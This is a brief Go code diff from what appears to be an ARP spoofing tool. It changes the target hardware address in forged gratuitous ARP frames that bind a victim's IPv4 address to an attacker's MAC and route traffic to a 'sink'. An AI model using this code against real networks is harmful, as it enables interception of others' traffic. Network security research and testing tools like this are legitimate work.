@@ -140,7 +140,7 @@ func (f forger) arp() (frames [][]byte) {
 	address := f.victim.IPv4
 	for _, operation := range []uint16{packet.Request, packet.Reply} {
 		for _, sender := range []net.HardwareAddr{f.attacker.mac, f.victim.mac} {
-			gratuitous := packet.ARP(operation, f.attacker.mac, address, packet.Broadcast(), address)
+			gratuitous := packet.ARP(operation, f.attacker.mac, address, f.attacker.mac, address)
 			reply := packet.ARP(operation, f.attacker.mac, address, f.sink.mac, f.sink.IPv4)
 			for _, to := range f.ways(f.attacker, f.sink) {
 				one := packet.Frame(to, sender, packet.TypeARP, reply)
